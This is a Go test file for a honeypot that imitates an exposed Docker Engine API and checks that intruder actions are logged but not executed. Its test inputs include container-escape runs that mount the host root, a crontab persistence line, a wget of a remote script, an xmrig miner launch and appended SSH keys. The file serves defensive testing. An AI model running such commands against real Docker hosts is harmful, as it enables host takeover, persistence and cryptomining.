package dockerapi

import (
	"bufio"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"go.uber.org/goleak"

	"decnet/decoy"
	"decnet/decoy/control"
	"decnet/decoy/decoytest"
	"decnet/decoy/event"
	"decnet/decoy/services/internal/bait"
	"decnet/decoy/services/internal/servicetest"
	"decnet/decoy/services/internal/web"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

func such(t testing.TB, number string) control.Identity {
	t.Helper()
	return servicetest.Such(t, decoytest.Identity(), func(h *decoy.Host) bool { return versionOf(h).number == number })
}

// docker runs the real command line.
func docker(t *testing.T, d *decoytest.Decky, stdin string, args ...string) (string, error) {
	t.Helper()
	return servicetest.Run(t, stdin, "docker", append([]string{"-H", "tcp://" + d.Address(2375)}, args...)...)
}

func TestRealClientLooksAround(t *testing.T) {
	for _, number := range []string{"20.10.24+dfsg1", "24.0.7", "27.3.1"} {
		t.Run(number, func(t *testing.T) {
			t.Setenv("HOME", t.TempDir())
			d := decoytest.StartAs(t, such(t, number), "docker_api")
			app := bait.AppOf(d.Host)
			out, err := docker(t, d, "", "version")
			if err != nil {
				t.Error(err)
			}
			servicetest.Contains(t, out, number, versionOf(d.Host).commit)
			out, _ = docker(t, d, "", "info")
			servicetest.Contains(t, out, "Server Version: "+number, "Name: "+d.Host.Hostname, "API is accessible on http://0.0.0.0:2375 without encryption")
			out, _ = docker(t, d, "", "ps")
			servicetest.Contains(t, out, app.Name+"-app-1", "Up ")
			out, _ = docker(t, d, "", "images")
			servicetest.Contains(t, out, "nginx", "1.25-alpine", "registry."+app.Domain+"/"+app.Name)
			out, _ = docker(t, d, "", "inspect", app.Name+"-app-1")
			servicetest.Contains(t, out, app.Secret)
			out, _ = docker(t, d, "", "network", "ls")
			servicetest.Contains(t, out, "bridge", "host", "none")
			out, _ = docker(t, d, "", "node", "ls")
			servicetest.Contains(t, out, "This node is not a swarm manager")
			out, err = docker(t, d, "", "inspect", "nope")
			if err == nil {
				t.Errorf("what is not there is found:\n%s", out)
			}
			d.Wait("request", decoytest.Has("method", "GET"), decoytest.Has("status", "200"), decoytest.Has(event.DstPort, "2375"))
		})
	}
}

func TestWhatAnIntruderRunsIsRecordedAndNotRun(t *testing.T) {
	for _, number := range []string{"20.10.24+dfsg1", "27.3.1"} {
		t.Run(number, func(t *testing.T) {
			t.Setenv("HOME", t.TempDir())
			d := decoytest.StartAs(t, such(t, number), "docker_api")
			out, err := docker(t, d, "", "run", "--rm", "--privileged", "-v", "/:/mnt", "-e", "POOL=203.0.113.9:3333", "evil/alpine", "chroot", "/mnt", "sh", "-c", "id; echo '* * * * * curl x' >> /etc/crontab; hostname; ls /nope")
			if err == nil {
				t.Error("ls of nothing succeeds")
			}
			servicetest.Contains(t, out, "Unable to find image 'evil/alpine:latest' locally", "Status: Downloaded newer image for evil/alpine:latest", "uid=0(root)", d.Host.Hostname, "No such file or directory")
			created := d.Wait("container_create", decoytest.Has("image", "evil/alpine"), decoytest.Has("privileged", "true"), decoytest.Has("binds", "/:/mnt"), decoytest.Has("env", "POOL=203.0.113.9:3333"))
			if command, _ := created.Get(event.Command); !strings.HasPrefix(command, "chroot /mnt sh -c ") {
				t.Errorf("the command is recorded as %q", command)
			}
			d.Wait("image_pull", decoytest.Has("image", "evil/alpine:latest"))
			d.Wait("container_start")
			d.Wait("request", func(e event.Event) bool {
				path, _ := e.Get("path")
				body, _ := e.Get("body")
				return strings.Contains(path, "/containers/create") && strings.Contains(body, "/etc/crontab")
			})
			out, _ = docker(t, d, "", "ps", "-a")
			if strings.Contains(out, "evil") {
				t.Errorf("--rm leaves it:\n%s", out)
			}
			if out, err = docker(t, d, "", "run", "-d", "--name", "xmr", "evil/alpine", "/xmrig", "-o", "pool:3333"); err != nil {
				t.Errorf("%v\n%s", err, out)
			}
			out, _ = docker(t, d, "", "ps")
			servicetest.Contains(t, out, "xmr", `"/xmrig -o pool:3333"`, "evil/alpine")
			if out, err = docker(t, d, "", "run", "-d", "--name", "xmr", "evil/alpine", "x"); err == nil || !strings.Contains(out, `The container name "/xmr" is already in use`) {
				t.Errorf("%v\n%s", err, out)
			}
			out, _ = docker(t, d, "", "rm", "-f", "xmr")
			servicetest.Contains(t, out, "xmr")
			out, _ = docker(t, d, "", "run", "--name", "once", "evil/alpine", "echo", "hello")
			servicetest.Contains(t, out, "hello")
			docker(t, d, "", "run", "-d", "--name", "later", "evil/alpine", "uname")
			out, _ = docker(t, d, "", "logs", "later")
			servicetest.Contains(t, out, "Linux")
			out, _ = docker(t, d, "", "start", "-a", "once")
			servicetest.Contains(t, out, "hello")
			out, _ = docker(t, d, "", "ps", "-a")
			servicetest.Contains(t, out, "Exited (0)")
		})
	}
}

// What a container is given of the host is there, and its own.
func TestMounts(t *testing.T) {
	t.Setenv("HOME", t.TempDir())
	d := decoytest.StartAs(t, such(t, "24.0.7"), "docker_api")
	out, err := docker(t, d, "", "run", "--name", "in", "-v", "/:/host", "--mount", "type=bind,source=/etc,target=/given", "alpine", "sh", "-c", "cat /host/etc/hostname; grep -c root /given/passwd; echo k >> /host/root/.ssh/keys || true; ls /host")
	if err != nil {
		t.Error(err)
	}
	servicetest.Contains(t, out, d.Host.Hostname, "\n1\n", "etc\n", "var\n")
	out, _ = docker(t, d, "", "inspect", "-f", "{{range .Mounts}}{{.Source}}:{{.Destination}} {{end}}", "in")
	servicetest.Contains(t, out, "/:/host /etc:/given ")
}

// A public image is the same on all hosts that pulled it at the same time, and its names by content and ID have nothing to do with each other.
func TestImagesAreTheRegistrys(t *testing.T) {
	at := time.Date(2025, 5, 1, 0, 0, 0, 0, time.UTC)
	one, other := released("alpine:3.18", 7e6, at), released("alpine:3.18", 7e6, at.Add(time.Hour))
	if *one != *other {
		t.Errorf("a tag is %v and %v", one, other)
	}
	if later := released("alpine:3.18", 7e6, at.Add(2*release)); later.id == one.id {
		t.Error("a tag stands for the same image forever")
	}
	digest, ok := strings.CutPrefix(one.digests()[0], "alpine@sha256:")
	if id := strings.TrimPrefix(one.id, "sha256:"); !ok || len(digest) != 64 || strings.Contains(digest, id[:32]) || strings.Contains(id, digest[:32]) {
		t.Errorf("the image %s is named %v", one.id, one.digests())
	}
	pinned := released("r.example.org:5000/x@sha256:aa", 1, at)
	if got := pinned.digests()[0]; got != "r.example.org:5000/x@sha256:aa" {
		t.Errorf("an image that was asked for by its digest has %s", got)
	}
}

func TestExec(t *testing.T) {
	t.Setenv("HOME", t.TempDir())
	d := decoytest.StartAs(t, such(t, "24.0.7"), "docker_api")
	name := bait.AppOf(d.Host).Name + "-app-1"
	out, _ := docker(t, d, "", "exec", name, "nsenter", "-t", "1", "-m", "--", "sh", "-c", "whoami; cat /nope")
	servicetest.Contains(t, out, "root", "/nope: No such file or directory")
	out, _ = docker(t, d, "hostname\nwget http://203.0.113.9/x.sh\n", "exec", "-i", name, "sh")
	servicetest.Contains(t, out, d.Host.Hostname)
	d.Wait("container_exec", decoytest.Has("container", name), decoytest.Has(event.Command, "sh"))
	d.Wait(event.Download, decoytest.Has("url", "http://203.0.113.9/x.sh"))
	out, err := docker(t, d, "", "exec", name, "sh", "-c", "exit 7")
	if err == nil || !strings.Contains(err.Error(), "exit status 7") {
		t.Errorf("%v\n%s", err, out)
	}
	id := post(t, d, "/containers/"+name+"/exec", `{"Cmd":["sh"],"Tty":true}`)
	conn := d.Dial(2375)
	fmt.Fprintf(conn, "POST /exec/%s/start HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: tcp\r\nContent-Type: application/json\r\nContent-Length: 12\r\n\r\n{\"Tty\":true}whoami\r\nexit\r\n", id)
	all, _ := io.ReadAll(conn)
	servicetest.Contains(t, string(all), "HTTP/1.1 101 UPGRADED\r\nContent-Type: application/vnd.docker.raw-stream\r\n", "root")
}

// post returns the Id of the answer.
func post(t *testing.T, d *decoytest.Decky, path, body string) string {
	t.Helper()
	r, err := http.Post("http://"+d.Address(2375)+path, "application/json", strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer r.Body.Close()
	var made struct{ Id string }
	if err := json.NewDecoder(r.Body).Decode(&made); err != nil || made.Id == "" {
		t.Fatalf("%s: %v", r.Status, err)
	}
	return made.Id
}

// raw sends a request and returns the answer, without the date.
func raw(t *testing.T, d *decoytest.Decky, request string) string {
	t.Helper()
	conn := d.Dial(2375)
	io.WriteString(conn, request)
	all, _ := io.ReadAll(conn)
	var kept []string
	for line := range strings.SplitSeq(string(all), "\r\n") {
		if !strings.HasPrefix(line, "Date: ") {
			kept = append(kept, line)
		}
	}
	return strings.Join(kept, "\n")
}

func TestAnswersAreTheEnginesOwn(t *testing.T) {
	t.Parallel()
	d := decoytest.StartAs(t, such(t, "20.10.24+dfsg1"), "docker_api")
	const end = " HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
	const head = "Api-Version: 1.41\nContent-Type: application/json\nDocker-Experimental: false\nOstype: linux\nServer: Docker/20.10.24+dfsg1 (linux)\nContent-Length: "
	for request, want := range map[string]string{
		"GET /" + end:                     "HTTP/1.1 404 Not Found\nContent-Type: application/json\nContent-Length: 29\nConnection: close\n\n{\"message\":\"page not found\"}\n",
		"GET /v1.41/nothing" + end:        "HTTP/1.1 404 Not Found\nContent-Type: application/json\nContent-Length: 29\nConnection: close\n\n{\"message\":\"page not found\"}\n",
		"GET /containers/nope/json" + end: "HTTP/1.1 404 Not Found\n" + head + "38\nConnection: close\n\n{\"message\":\"No such container: nope\"}\n",
		"POST /containers/create" + end:   "HTTP/1.1 500 Internal Server Error\n" + head + "18\nConnection: close\n\n{\"message\":\"EOF\"}\n",
		"GET /v1.99/version" + end: "HTTP/1.1 400 Bad Request\nApi-Version: 1.41\nContent-Type: application/json\nOstype: linux\nServer: Docker/20.10.24+dfsg1 (linux)\nContent-Length: 84\nConnection: close\n\n" +
			"{\"message\":\"client version 1.99 is too new. Maximum supported API version is 1.41\"}\n",
		"GET /v1.0/version" + end: "HTTP/1.1 400 Bad Request\nApi-Version: 1.41\nContent-Type: text/plain; charset=utf-8\nOstype: linux\nServer: Docker/20.10.24+dfsg1 (linux)\nX-Content-Type-Options: nosniff\n" +
			"Content-Length: 116\nConnection: close\n\nclient version 1.0 is too old. Minimum supported API version is 1.12, please upgrade your client to a newer version\n",
		"GET /_ping" + end: "HTTP/1.1 200 OK\nApi-Version: 1.41\nCache-Control: no-cache, no-store, must-revalidate\nContent-Type: text/plain; charset=utf-8\nDocker-Experimental: false\nOstype: linux\nPragma: no-cache\n" +
			"Server: Docker/20.10.24+dfsg1 (linux)\nContent-Length: 2\nConnection: close\n\nOK",
		"nonsense\r\n\r\n": "HTTP/1.1 400 Bad Request\nContent-Type: text/plain; charset=utf-8\nConnection: close\n\n400 Bad Request",
	} {
		if got := raw(t, d, request); got != want {
			t.Errorf("%q is answered with\n%s\nwant\n%s", request, got, want)
		}
	}
	d.Wait("protocol_error", decoytest.Has("data", "nonsense\r\n\r\n"))
}

func TestCredentialsForRegistriesAreRecorded(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "docker_api")
	header := base64.URLEncoding.EncodeToString([]byte(`{"username":"u","password":"hidden?","serveraddress":"r.example.org"}`))
	raw(t, d, "POST /images/create?fromImage=r.example.org/x HTTP/1.1\r\nHost: x\r\nConnection: close\r\nX-Registry-Auth: "+header+"\r\n\r\n")
	d.Wait(event.AuthAttempt, decoytest.Has(event.Principal, "u"), decoytest.Has(event.Secret, "hidden?"), decoytest.Has("registry", "r.example.org"))
	raw(t, d, "POST /auth HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: 35\r\n\r\n{\"username\":\"v\",\"password\":\"other\"} ")
	d.Wait(event.AuthAttempt, decoytest.Has(event.Principal, "v"), decoytest.Has(event.Secret, "other"))
}

func TestLongBodiesAreRecordedInPieces(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "docker_api")
	script := strings.Repeat("0123456789", 2000)
	body := `{"Image":"x","Cmd":["sh","-c","` + script + `"]}`
	r, err := http.Post("http://"+d.Address(2375)+"/containers/create", "application/json", strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	r.Body.Close()
	http.DefaultClient.CloseIdleConnections()
	e := d.Wait("request", decoytest.Has("body_size", fmt.Sprint(len(body))))
	whole, _ := e.Get("body")
	sum, _ := e.Get("body_sha256")
	for len(whole) < len(body) {
		part, _ := d.Wait("body_part", decoytest.Has("body_sha256", sum), decoytest.Has("offset", fmt.Sprint(len(whole)))).Get("content")
		whole += part
	}
	if whole != body {
		t.Error("the pieces are not the body")
	}
	conn := d.Dial(2375)
	fmt.Fprintf(conn, "PUT /containers/%s/archive?path=/root HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n\r\ntar!", bait.AppOf(d.Host).Name+"-app-1")
	d.Wait("file_written", decoytest.Has("path", "/root"), decoytest.Has("content", "tar!"))
}

func TestTLS(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "docker_api")
	out, err := servicetest.Run(t, "", "curl", "-sk", "https://"+d.Address(2376)+"/containers/json")
	if err != nil {
		t.Errorf("%v\n%s", err, out)
	}
	servicetest.Contains(t, out, bait.AppOf(d.Host).Name+"-app-1")
	d.Wait("tls", decoytest.Has(event.DstPort, "2376"))
	conn := d.Dial(2376)
	io.WriteString(conn, "GET / HTTP/1.1\r\n\r\n")
	if got, _ := io.ReadAll(conn); string(got) != "HTTP/1.0 400 Bad Request\r\n\r\nClient sent an HTTP request to an HTTPS server.\n" {
		t.Errorf("plain HTTP is answered with %q", got)
	}
}

func TestScannerNamesTheProduct(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "docker_api")
	servicetest.Contains(t, servicetest.Scan(t, d, 2375), "Docker")
}

func TestWhatIntrudersLeaveIsBounded(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "docker_api")
	h, err := decoy.NewHost(control.Identity{Name: "x", Seed: []byte("a seed of some bytes for a test")}, nil)
	if err != nil {
		t.Fatal(err)
	}
	v := newServer(h)
	for range 3 * maxMade {
		v.engine.add(&container{id: newID(), life: newLife()})
		v.engine.addImage(&image{id: newID()})
		v.engine.addExecution(&execution{id: newID()})
	}
	if len(v.engine.made) > maxMade || len(v.engine.pulled) > maxPulled || len(v.engine.executions) > maxExecs {
		t.Errorf("%d containers, %d images, %d commands", len(v.engine.made), len(v.engine.pulled), len(v.engine.executions))
	}
	conn := d.Dial(2375)
	fmt.Fprintf(conn, "POST /containers/create HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: %d\r\n\r\n{\"Image\":\"nginx:1.25-alpine\",\"Env\":[\"A=", web.MaxBody)
	io.CopyN(conn, zeros{}, web.MaxBody)
	if line, err := bufio.NewReader(conn).ReadString('\n'); err != nil || strings.Contains(line, " 201 ") {
		t.Errorf("%q, %v", line, err)
	}
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) { return len(p), nil }

func TestDeckiesDifferAndStay(t *testing.T) {
	t.Parallel()
	servicetest.Looks(t, 18, func(h *decoy.Host) string {
		v := newServer(h)
		var all []string
		for _, c := range v.engine.containers() {
			all = append(all, c.id+c.name)
		}
		return fmt.Sprint(v.version, v.engine.id, all)
	})
}

func TestGarbage(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "docker_api")
	servicetest.Garbage(t, d, 2375, "GET /", "POST /containers/create HTTP/1.1\r\nHost: x\r\nContent-Length: 300\r\n\r\n{", "POST /exec/x/start HTTP/1.1\r\nUpgrade: tcp\r\n")
	servicetest.Garbage(t, d, 2376, "\x16\x03\x01\x02\x00\x01")
	servicetest.Recovers(t, func() bool {
		r, err := http.Get("http://" + d.Address(2375) + "/_ping")
		if err == nil {
			r.Body.Close()
		}
		return err == nil && r.StatusCode == 200
	})
	http.DefaultClient.CloseIdleConnections()
}

func TestCommandsAreUnderstood(t *testing.T) {
	for _, c := range []struct {
		argv string
		want job
	}{
		{"", job{interactive: true}}, {"sh", job{interactive: true}}, {"chroot /mnt", job{interactive: true}}, {"chroot /mnt /bin/bash -c id", job{line: "id"}}, {"nsenter --target 1 --mount sh", job{interactive: true}},
		{"nsenter -t 1 -m -- bash -c ls", job{line: "ls"}}, {"sh x.sh", job{line: "sh x.sh"}}, {"/bin/cat /etc/passwd", job{line: "/bin/cat /etc/passwd"}}, {"/tmp/miner -o x", job{line: "/tmp/miner -o x", lasts: true}},
		{"bash -lc id", job{line: "id"}}, {"chroot", job{interactive: true}},
	} {
		if got := understand(strings.Fields(c.argv)); got != c.want {
			t.Errorf("%q is %+v, want %+v", c.argv, got, c.want)
		}
	}
}

func FuzzRequests(f *testing.F) {
	f.Add(`{"Image":"a","Cmd":"sh","Entrypoint":["a"]}`, "chroot /x sh -c y", "1.41")
	f.Add(`{"Cmd":[null]}`, "nsenter -t", ".")
	f.Fuzz(func(t *testing.T, body, command, version string) {
		var s spec
		if json.Unmarshal([]byte(body), &s) == nil {
			quoted(s.Cmd)
		}
		argv := strings.Fields(command)
		before := slices.Clone(argv)
		if j := understand(argv); j.interactive && j.line != "" || !slices.Equal(argv, before) {
			t.Fatalf("%q is %+v", command, j)
		}
		newer(version, "1.41")
		registryLogin(command)
		tagged(command)
	})
}
